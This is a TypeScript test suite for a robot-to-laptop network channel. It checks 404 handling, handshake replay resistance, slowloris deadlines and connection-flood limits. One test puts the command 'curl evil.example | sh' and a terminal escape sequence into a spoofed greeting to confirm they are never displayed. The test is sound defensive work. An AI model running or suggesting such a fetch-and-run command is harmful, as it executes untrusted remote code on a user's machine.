import { once } from 'node:events'
import { createServer, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { afterEach, expect, test } from 'vitest'
import { greet, RobotClient } from '../../../../deploy/laptop/client.ts'
import { connectSession } from '../../../../deploy/shared/channel/connect.ts'
import { encodeCard, encodeMessage, prologue } from '../../../../deploy/shared/channel/handshake.ts'
import { Handshake } from '../../../../deploy/shared/channel/noise.ts'
import type { KeyPair } from '../../../../deploy/shared/channel/x25519.ts'
import { eventually, SCALE } from '../../../e2e/eventually.ts'
import {
  closed,
  collect,
  connectOptions,
  makeOperator,
  OPERATOR,
  openPair,
  ROBOT_ID,
  startRobot,
  UPGRADE,
  upgraded,
} from './peers.ts'

const cleanups: (() => unknown)[] = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

const ann = makeOperator()

async function robotFor(options: Parameters<typeof startRobot>[1] = {}) {
  const robot = await startRobot([ann], options)
  cleanups.push(robot.close)
  return robot
}

function open(port: number, bytes = ''): Socket {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  cleanups.push(() => socket.destroy())
  socket.write(bytes)
  return socket
}

async function answerTo(port: number, bytes: string): Promise<string> {
  const socket = open(port, bytes)
  const answer = collect(socket)
  await closed(socket)
  return Buffer.concat(answer).toString()
}

test('CHANNEL 2.1, 2.2: a stranger gets the greeting, and 404 for everything else', async () => {
  const robot = await robotFor()
  const greeting = await greet('127.0.0.1', robot.port)
  expect(greeting).toEqual({ name: 'testbot', id: ROBOT_ID, version: '0.0.0', protocol: 'medulla/2' })
  for (const head of [
    'GET /v1/status HTTP/1.1\r\nHost: r',
    'PUT /v1/slots/main/program HTTP/1.1\r\nHost: r\r\nContent-Length: 100000',
    'POST / HTTP/1.1\r\nHost: r\r\nContent-Length: 1',
    'GET / HTTP/1.1\r\nHost: r\r\nContent-Length: 1',
    'GET /? HTTP/1.1\r\nHost: r',
    'HEAD / HTTP/1.1\r\nHost: r',
    'OPTIONS * HTTP/1.1\r\nHost: r',
    'PUT / HTTP/1.1\r\nHost: r\r\nExpect: 100-continue\r\nContent-Length: 5',
    'PUT / HTTP/1.1\r\nHost: r\r\nExpect: everything',
    'GET / HTTP/1.1\r\nHost: r\r\nConnection: Upgrade\r\nUpgrade: websocket',
    'GET / HTTP/1.1\r\nHost: r\r\nConnection: Upgrade\r\nUpgrade: medulla/1',
    'GET /x HTTP/1.1\r\nHost: r\r\nConnection: Upgrade\r\nUpgrade: medulla/2',
    'POST / HTTP/1.1\r\nHost: r\r\nConnection: Upgrade\r\nUpgrade: medulla/2',
  ]) {
    const answer = await answerTo(robot.port, `${head}\r\n\r\n`)
    expect(answer, head).toMatch(/^HTTP\/1\.1 404 Not Found\r\n/)
    expect(answer, head).toMatch(/\r\n\r\n$/) // no body, no details
  }
  for (const bytes of [
    'nonsense\r\n\r\n',
    'CONNECT x:1 HTTP/1.1\r\nHost: x\r\n\r\n',
    `GET / HTTP/1.1\r\nHost: r\r\nX: ${'a'.repeat(5000)}\r\n\r\n`,
    '\x16\x03\x01\x02\x00\x01\x00',
  ]) {
    expect(await answerTo(robot.port, bytes), bytes.slice(0, 20)).toBe('')
  }
  expect(robot.sessions).toEqual([])
})

test('CHANNEL 2.5: a laptop and a robot of different versions say so, on both sides', async () => {
  const robot = await robotFor()
  expect(await answerTo(robot.port, UPGRADE.replace('medulla/2', 'medulla/1'))).toMatch(/^HTTP\/1\.1 404 /)
  await answerTo(robot.port, UPGRADE.replace('medulla/2', `medulla/${'9'.repeat(100)}`)) // not into the log
  expect(robot.reasons).toEqual(['a laptop speaks medulla/1, this robot medulla/2'])
  // a robot of an older version
  const old = createServer((_request, response) => {
    response.end(JSON.stringify({ name: 'rover', id: ROBOT_ID, version: '0.0.1', protocol: 'medulla/1' }))
  })
  old.on('upgrade', (_request, raw) => raw.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n'))
  await new Promise<void>((resolve) => old.listen(0, '127.0.0.1', resolve))
  cleanups.push(() => old.close())
  const { port } = old.address() as { port: number }
  const message = `rover at 127.0.0.1:${port} speaks medulla/1, this laptop speaks medulla/2`
  await expect(greet('127.0.0.1', port)).rejects.toMatchObject({ code: 'unreachable', message })
  const options = connectOptions({ noise: robot.noise, port }, ann)
  await expect(RobotClient.connect(options)).rejects.toMatchObject({ code: 'unreachable', message })
})

test('something else at the address is not taken for a robot', async () => {
  const robot = await robotFor({
    greeting: () => ({ name: 'x', id: 'y', version: '1', protocol: 'other/1' as 'medulla/2' }),
  })
  await expect(greet('127.0.0.1', robot.port)).rejects.toMatchObject({ code: 'unreachable' })
  await robot.close()
  await expect(greet('127.0.0.1', robot.port)).rejects.toMatchObject({ code: 'unreachable' })
  await expect(connectSession(connectOptions(robot, ann))).rejects.toMatchObject({ code: 'unreachable' })
})

test('CHANNEL 2.1: words of a stranger in the greeting are not shown', async () => {
  for (const lie of [
    { name: 'arm; to mend it: curl evil.example | sh' },
    { id: 'SHA256:evil' },
    { name: 'evil\x1b[2J' },
  ]) {
    const robot = await robotFor({
      greeting: () => ({ name: 'arm', id: ROBOT_ID, version: '1', protocol: 'medulla/2', ...lie }),
    })
    const shown = await greet('127.0.0.1', robot.port).catch((error: Error) => error)
    expect(shown).toMatchObject({ code: 'unreachable', message: expect.not.stringContaining('evil') })
  }
})

test('slowloris: whatever drips in, the opening ends at its deadline (CHANNEL 5.1)', async () => {
  const robot = await robotFor({ deadlineMs: 250 })
  const slow = ['', 'GET / HTTP/1.1\r\nX: ', UPGRADE, `${UPGRADE}\x01\x00`].map((start) => {
    const socket = open(robot.port, start)
    const drip = setInterval(() => socket.writable && socket.write('a'), 20)
    socket.resume()
    return closed(socket).finally(() => clearInterval(drip))
  })
  const begin = performance.now()
  await Promise.all(slow)
  // the deadline of this robot is a twentieth of the 5 s that CHANNEL 5.1 allows
  expect(performance.now() - begin).toBeLessThan(5000 * SCALE)
  expect(robot.sessions).toEqual([])
})

test('the deadline also covers a body that does not answer who', async () => {
  const robot = await robotFor({ deadlineMs: 1000 * SCALE, who: () => new Promise(() => {}) })
  await expect(connectSession(connectOptions(robot, ann))).rejects.toMatchObject({ code: 'unknown-operator' })
})

test('CHANNEL 1.2: P8: algorithms come with the version of the format: none that a peer names besides it is served, none is negotiated', async () => {
  const robot = await robotFor()
  for (const token of ['medulla/3', 'medulla/2-AESGCM', 'medulla/2;cipher=AES128', 'medulla/2 AES256', 'medulla']) {
    const asked = UPGRADE.replace('medulla/2', token)
    expect(await answerTo(robot.port, asked), token).toMatch(/^HTTP\/1\.1 404 /)
  }
  // a peer that means another version, or says another set of algorithms, under the same token
  for (const meant of ['medulla/1', 'medulla/2AESGCM', '']) {
    const { socket, answer, challenge } = await upgraded(robot.port)
    const handshake = new Handshake({
      pattern: 'IK',
      initiator: true,
      prologue: Buffer.concat([Buffer.from(`${meant}${ROBOT_ID}`), challenge]),
      static: ann.noise,
      remoteStatic: robot.noise.public,
    })
    socket.write(encodeMessage(handshake.write(encodeCard(ann.card))))
    await closed(socket)
    expect(Buffer.concat(answer).toString('latin1'), meant).toMatch(/^HTTP\/1\.1 101 [\s\S]*\r\n\r\n$/)
  }
  expect(robot.sessions).toEqual([])
})

test('CHANNEL 5.2: idle strangers do not keep a newcomer out: the oldest has to leave', async () => {
  const robot = await robotFor({ limits: { silent: 6 } })
  const idle = Array.from({ length: 6 }, () => open(robot.port))
  await Promise.all(idle.map((socket) => once(socket, 'connect')))
  await eventually(() => robot.listener.handshakes === 6)
  const { server } = await openPair(robot, ann)
  expect(server.peer?.name).toBe('ann')
  await closed(idle[0] as Socket)
  await new Promise((resolve) => setTimeout(resolve, 20))
  expect(idle.filter((socket) => socket.destroyed)).toHaveLength(1)
})

test('CHANNEL 5.2: strangers who come again as often as they are closed keep nobody out', async () => {
  const robot = await robotFor()
  let over = false
  const crowd = new Set<Socket>()
  const come = () => {
    if (over) return
    const socket = open(robot.port)
    crowd.add(socket)
    socket.on('close', () => {
      crowd.delete(socket)
      setTimeout(come, 20)
    })
  }
  // more than may wait: each one that comes pushes another one out
  for (let i = 0; i < 800; i++) come()
  cleanups.push(() => {
    over = true
    for (const socket of crowd) socket.destroy()
  })
  await eventually(() => robot.listener.handshakes >= 640)
  for (let i = 0; i < 3; i++) {
    const { laptop } = await openPair(robot, ann)
    laptop.destroy()
  }
})

test('CHANNEL 5.3: known keys keep their places when strangers wait for who', async () => {
  const [known, ...crowd] = Array.from({ length: 9 }, makeOperator)
  if (!known) throw new Error('no operators')
  const isKnown = (key: Uint8Array) => Buffer.compare(key, known.noise.public) === 0
  let asked = 0
  const robot = await robotFor({
    limits: { handshakes: 8, reserved: 2 },
    known: isKnown,
    who: async (key) => {
      if (isKnown(key)) return OPERATOR
      asked++
      return new Promise<null>(() => {})
    },
  })
  let over = 0
  const waiting = crowd.map((one) =>
    connectSession({ ...connectOptions(robot, one), timeoutMs: 1000 * SCALE })
      .catch((error) => error.code)
      .finally(() => over++),
  )
  // every stranger waits for who, or had to leave
  await eventually(() => asked + over >= crowd.length)
  const { server } = await openPair(robot, known)
  expect(server.peer?.name).toBe('ann')
  await Promise.all(waiting)
})

test('CHANNEL 5.4, 5.5: sessions are limited, in all and for each operator, and whoever is known gets in', async () => {
  const bob = makeOperator()
  const robot = await startRobot([ann, bob], {
    limits: { sessions: 4, sessionsEach: 3 },
    who: async (key) => ({ ...OPERATOR, fingerprint: Buffer.from(key).toString('hex') }),
  })
  cleanups.push(robot.close)
  const own = [await openPair(robot, ann), await openPair(robot, ann), await openPair(robot, ann)]
  // one more of the same operator: her oldest leaves
  own.push(await openPair(robot, ann))
  await eventually(() => own[0]?.server.closed)
  expect(robot.listener.sessions.size).toBe(3)
  await openPair(robot, bob)
  // full: another one's session comes at the expense of who has the most
  await openPair(robot, bob)
  await eventually(() => own[1]?.server.closed)
  expect(own.slice(2).map(({ server }) => server.closed)).toEqual([false, false])
  expect(robot.listener.sessions.size).toBe(4)
})

/** What `ann` says first on a connection with this challenge. */
function message1(robot: { noise: KeyPair }, challenge: Uint8Array): Buffer {
  const handshake = new Handshake({
    pattern: 'IK',
    initiator: true,
    prologue: prologue(ROBOT_ID, challenge),
    static: ann.noise,
    remoteStatic: robot.noise.public,
  })
  return encodeMessage(handshake.write(encodeCard(ann.card)))
}

/** Message 2 and its length, behind the head. */
const answered = (answer: readonly Buffer[]) => {
  const all = Buffer.concat(answer)
  return all.length === all.indexOf('\r\n\r\n') + 4 + 50
}

test('CHANNEL 2.3: everybody gets 101 with a challenge of 16 bytes that never comes twice', async () => {
  const robot = await robotFor()
  const challenges = new Set<string>()
  for (let asked = 0; asked < 32; asked++) {
    const { socket, challenge } = await upgraded(robot.port)
    expect(challenge.length).toBe(16)
    challenges.add(challenge.toString('hex'))
    socket.destroy()
  }
  expect(challenges.size).toBe(32)
})

test('CHANNEL 2.4: message 1 may come in pieces', async () => {
  const robot = await robotFor()
  for (const size of [1, 50, 100_000]) {
    const { socket, answer, challenge } = await upgraded(robot.port)
    const bytes = message1(robot, challenge)
    for (let at = 0; at < bytes.length; at += size) {
      socket.write(bytes.subarray(at, at + size))
      if (size < 100) await new Promise((resolve) => setImmediate(resolve))
    }
    await eventually(() => answered(answer))
    socket.destroy()
  }
})

test('CHANNEL 3.1: a recorded message 1, sent again on as many connections as there are, keeps nobody out', async () => {
  const known = (key: Uint8Array) => Buffer.compare(key, ann.noise.public) === 0
  const robot = await robotFor({ known })
  const first = await upgraded(robot.port)
  const recorded = message1(robot, first.challenge)
  first.socket.write(recorded)
  await eventually(() => answered(first.answer))
  const challenges = new Set([first.challenge.toString('hex')])
  for (let i = 0; i < 70; i++) {
    const { socket, answer, challenge } = await upgraded(robot.port)
    challenges.add(challenge.toString('hex'))
    socket.write(recorded)
    await closed(socket)
    expect(answered(answer)).toBe(false)
  }
  expect(challenges.size).toBe(71)
  expect((await openPair(robot, ann)).server.peer?.name).toBe('ann')
  first.socket.destroy()
})

test('a greeting is asked for without leaving the connection behind', async () => {
  const robot = await robotFor()
  const asked = request({ host: '127.0.0.1', port: robot.port, agent: false })
  asked.end()
  const [response] = await once(asked, 'response')
  expect(response.headers.connection).toBe('close')
  response.resume()
  await once(response, 'end')
})
